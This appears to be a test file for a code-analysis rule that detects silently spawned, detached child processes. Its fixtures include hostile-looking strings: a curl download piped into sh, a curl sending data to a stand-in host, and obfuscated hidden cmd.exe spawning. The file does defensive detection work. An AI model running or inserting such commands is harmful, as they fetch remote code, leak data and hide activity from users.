import rule from '../../rules/silent-process-execution.js';
import { ruleTester } from '../rule-tester.js';
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';

function severities(code: string, profile: 'strict' | 'audit'): string[] {
  const report = analyze(code, { filename: 'x.js', policy: resolvePolicy({ profile }), rules: [rule] });
  return report.findings.filter((f) => f.ruleId === rule.id).map((f) => f.severity);
}

const CP = 'const { spawn } = require("child_process");\n';

describe('silent-process-execution severities', () => {
  it('is a warning in audit for an update check, an error when the command downloads', () => {
    assert.deepEqual(severities(CP + 'spawn(process.execPath, ["check.js"], { detached: true, stdio: "ignore" }).unref();', 'audit'), ['warn']);
    assert.deepEqual(severities(CP + 'spawn("sh", ["-c", "curl -s http://x.example/a | sh"], { detached: true, stdio: "ignore" }).unref();', 'audit'), ['error']);
    assert.deepEqual(severities(CP + 'spawn("curl", ["-d", data, "http://x.example"], { detached: true, stdio: "ignore" }).unref();', 'audit'), ['error']);
    assert.deepEqual(severities(CP + 'fetch("https://x.example/ping");\nspawn("node", ["x.js"], { detached: true, windowsHide: true }).unref();', 'audit'), ['error']);
  });
  it('is an error in strict', () => {
    assert.deepEqual(severities(CP + 'spawn("node", ["x.js"], { detached: true, stdio: "ignore" }).unref();', 'strict'), ['error']);
  });
});

ruleTester(rule, {
  valid: [
    CP + 'spawn("node", ["server.js"], { stdio: "inherit" });',
    CP + 'spawn("node", ["server.js"], { detached: true, stdio: "inherit" }).unref();',
    CP + 'const child = spawn("node", ["w.js"], { detached: true, stdio: "ignore" });\nchild.on("exit", done);',
    CP + 'spawn("node", ["x.js"], { stdio: "ignore" }).unref();',
    'const child = pool.spawn({ detached: true, stdio: "ignore" }); child.unref();',
    'function spawn(a, b, c) { return { unref() {} } }\nspawn("x", [], { detached: true, stdio: "ignore" }).unref();',
  ],
  invalid: [
    { code: CP + 'spawn(process.execPath, ["check.js"], { detached: true, stdio: "ignore" }).unref();', errors: [{ messageId: 'silent', line: 2, column: 1, message: 'output discarded' }] },
    {
      code: CP + 'const opts = { detached: true, stdio: ["ignore", "ignore", "ignore"] };\nconst child = spawn("node", ["payload.js"], opts);\nchild.unref();',
      errors: [{ messageId: 'silent', line: 3, column: 15 }],
    },
    {
      code: 'const cp = require("child" + "_process");\nlet c;\nc = cp["spa" + "wn"]("cmd.exe", ["/c", "x.bat"], { detached: true, windowsHide: true });\nc.unref();',
      errors: [{ messageId: 'silent', line: 3, column: 5, message: 'window hidden' }],
    },
    {
      code: 'import { execFile } from "child_process";\nexecFile("/tmp/.x", [], { detached: true, stdio: "ignore" })?.unref();',
      filename: 'x.mjs',
      errors: [{ messageId: 'silent', line: 2, column: 1 }],
    },
    {
      code: CP + 'spawn("sh", ["-c", "curl -s http://x.example/a | sh"], { detached: true, stdio: "ignore" }).unref();',
      errors: [{ messageId: 'silent', line: 2, column: 1, message: 'pipes a download into a shell' }],
    },
  ],
});
